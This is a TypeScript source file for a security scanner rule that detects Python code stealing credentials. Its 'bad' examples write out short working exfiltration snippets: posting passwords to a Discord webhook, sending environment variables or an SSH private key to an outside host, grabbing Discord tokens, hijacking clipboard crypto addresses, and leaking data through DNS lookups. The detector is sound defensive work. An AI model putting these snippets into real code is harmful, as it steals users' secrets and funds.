import { defineRule } from '../../rule.ts';
import { NETWORK, takings, spying, lookups, listening } from './pythonTakings.ts';

export const pythonStealsData = defineRule({
  id: 'python-steals-data',
  title: 'Credential theft: sends secrets of whoever runs it',
  severity: 'critical',
  confidence: 'high',
  category: 'code',
  applies: 'repository',
  cwe: 'CWE-506',
  why: 'Passwords, keys, tokens and wallets of everyone who runs or installs it go to a stranger.',
  remedy: 'Do not run it. Whoever did should revoke their keys and passwords.',
  *check(facts) {
    for (const [file, fact] of facts.having('python')) {
      if (
        file.traits.test ||
        file.traits.docs ||
        !fact.imports.some((name) => NETWORK.test(name) || /pyperclip|clipboard/.test(name))
      )
        continue;
      yield* takings(file.path, fact);
      yield* spying(file.path, fact);
      yield* lookups(file.path, fact);
      yield* listening(file.path, fact);
    }
  },
  examples: {
    bad: [
      {
        kind: 'repository',
        files: {
          'a.py':
            "import requests\ndef login(user, password):\n    requests.post('https://discord.com/api/webhooks/1/x', json={'content': user + ':' + password})\n",
        },
      },
      {
        kind: 'repository',
        files: {
          'a.py':
            "import os, requests\nfor k, v in os.environ.items():\n    requests.post('https://x.dev', data={k: v})\n",
        },
      },
      {
        kind: 'repository',
        files: { 'a/__init__.py': "import requests, os\nrequests.post('https://x.dev/e', json=dict(os.environ))\n" },
      },
      {
        kind: 'repository',
        files: {
          'a/__init__.py':
            "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen('https://x.dev/?k=' + key)\n",
        },
      },
      {
        kind: 'repository',
        files: {
          'a.py':
            "import os, requests\np = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\nrequests.post(hook, json={'content': find(p)})\n",
        },
      },
      {
        kind: 'repository',
        files: {
          'a.py':
            "import pyperclip, re\nt = pyperclip.paste()\nif re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):\n    pyperclip.copy(MINE)\n",
        },
      },
      {
        kind: 'repository',
        files: {
          'a.py': "import os, socket\ndata = os.popen('whoami').read()\nsocket.gethostbyname(data + '.x.dev.net')\n",
        },
      },
    ],
    good: [
      {
        kind: 'repository',
        files: {
          'a.py':
            "import requests\ndef login(user, password):\n    requests.post('https://api.x.dev/login', json={'u': user, 'p': password})\n",
        },
      },
      {
        kind: 'repository',
        files: {
          'a.py': "import os, requests\nrequests.post('https://x.dev/e', json={'token': os.environ['TOKEN']})\n",
        },
      },
      {
        kind: 'repository',
        files: { 'a.py': "import os, paramiko\nc.connect(host, key_filename=os.path.expanduser('~/.ssh/id_rsa'))\n" },
      },
      { kind: 'repository', files: { 'a.py': 'import pyperclip\npyperclip.copy(text)\nt = pyperclip.paste()\n' } },
      {
        kind: 'repository',
        files: {
          'a.py':
            "import os, subprocess, requests\nsubprocess.run(['make'], env=dict(os.environ, LANG='C'))\nrequests.get('https://x.dev/v')\n",
        },
      },
      { kind: 'repository', files: { 'a.py': "import socket\nsocket.gethostbyname('www.' + domain)\n" } },
    ],
  },
});
